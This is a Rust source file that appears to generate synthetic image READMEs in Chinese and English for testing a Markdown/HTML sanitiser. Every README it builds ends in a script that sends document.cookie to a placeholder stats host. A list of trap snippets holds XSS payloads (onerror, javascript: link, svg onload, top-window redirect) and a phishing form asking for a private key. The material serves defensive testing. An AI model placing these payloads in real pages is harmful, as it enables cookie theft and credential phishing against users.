//! What authors write about their images: Markdown that nobody has checked.
//!
//! On purpose each text holds what a careless page would run or load: a script, an iframe, a
//! handler in an attribute, a link that is code, a picture of a foreign host. All hosts are names
//! reserved for examples.

use super::group::Group;

/// The text about one version of a group, between one and two kibibytes.
pub(super) fn readme(group: &Group, version_name: &str) -> String {
    let dice = group.dice.named("readme");
    let part = |name: &str, texts: &[&'static str]| dice.named(name).pick(texts).to_owned();
    [
        format!("# {} {version_name}", group.name()),
        pictures(&group.id()),
        part("greeting", GREETINGS),
        part("steps", STEPS),
        table(group.author.name, version_name),
        video(&group.id()),
        part("notes", NOTES),
        part("trap", TRAPS),
        SCRIPT.to_owned(),
    ]
    .join("\n\n")
}

/// One as HTML and one as Markdown.
fn pictures(id: &str) -> String {
    format!(
        "<p align=\"center\"><img src=\"https://img.example.com/{id}/banner.png\" width=\"640\"></p>\n\n\
         ![界面截图](https://img.example.com/{id}/screen.webp)"
    )
}

fn table(author: &str, version_name: &str) -> String {
    format!(
        "<details><summary>版本说明</summary>\n\n\
         | 组件 | 说明 |\n|---|---|\n| 主程序 | {version_name} |\n| 作者 | {author} |\n\n</details>"
    )
}

fn video(id: &str) -> String {
    format!(
        "## 视频教程\n\n<iframe src=\"https://video.example.com/embed/{id}?autoplay=1\" \
         width=\"100%\" height=\"420\" allowfullscreen></iframe>"
    )
}

const SCRIPT: &str = "<script>fetch('https://stats.example.com/?c=' + document.cookie)</script>\n";
const GREETINGS: &[&str] = &[
    "这个镜像把环境、模型和脚本都装好了，**开机就能用**。制作时在两张不同的显卡上各跑过一遍，重启十次没有发现问题。",
    "花了一个周末整理的环境，依赖版本全部锁定，不会因为自动更新而坏掉。觉得好用请点个收藏，有问题在评论区留言，看到都会回。",
    "A clean environment with everything pinned. The weights are on the system disk, so nothing is downloaded at the first start. Questions in English or 中文 are welcome.",
];
const STEPS: &[&str] = &[
    "## 快速开始\n\n1. 选择推荐机型创建实例，等待约一分钟\n2. 打开 JupyterLab，运行 `bash /workspace/start.sh`\n3. 浏览器访问控制台给出的地址，看到界面即成功\n\n```bash\ntail -f /workspace/logs/app.log   # 查看日志\npkill -f main.py && bash /workspace/start.sh   # 重启服务\n```",
    "## 快速开始\n\n1. 创建实例，系统盘保持默认大小\n2. 服务会自动启动，无需登录\n3. 模型放到 `~/models`，刷新页面即可选择\n\n```python\nimport torch\nprint(torch.cuda.is_available(), torch.cuda.get_device_name(0))\n```",
    "## 使用方法\n\n- 默认端口见软件列表，防火墙已放行\n- 用户名 `admin`，首次登录后请立刻修改密码\n- 数据目录：`/data`，关机不丢失\n\n> 显存小于 24G 时请在设置里打开低显存模式，并把分辨率降到 768 以内。",
];
const NOTES: &[&str] = &[
    "## 常见问题\n\n**打不开页面？** 等两分钟再刷新，首次启动需要加载模型。<br>**显存不足？** 关闭其他进程，或换 `4090_48G` 机型。<font color=red>不要同时开两个任务！</font>",
    "## 更新记录\n\n* 修复长文本截断\n* 模型换成量化版，显存占用降低三成\n* 支持批量处理：把文件放进 `input/` 目录，结果在 `output/`，文件名不变",
    "## 许可\n\n仅整理开源项目，版权归原作者所有；商用前请阅读各模型的许可证。&nbsp;&copy; 如有侵权请联系删除 <a href=\"mailto:me@example.com\">me@example.com</a>",
];
const TRAPS: &[&str] = &[
    "<img src=x onerror=\"alert(document.domain)\">",
    "[加群领取教程](javascript:alert(1))",
    "<a href=\"https://promo.example.com/?ref=readme\" onclick=\"window.top.location=this.href\" target=_top>点我抽奖</a>",
    "<style>body{display:none}</style><svg onload=alert(1)></svg>",
    "<form action=\"https://login.example.com/\"><input name=\"PrivateKey\" placeholder=\"请输入私钥\"></form>",
];
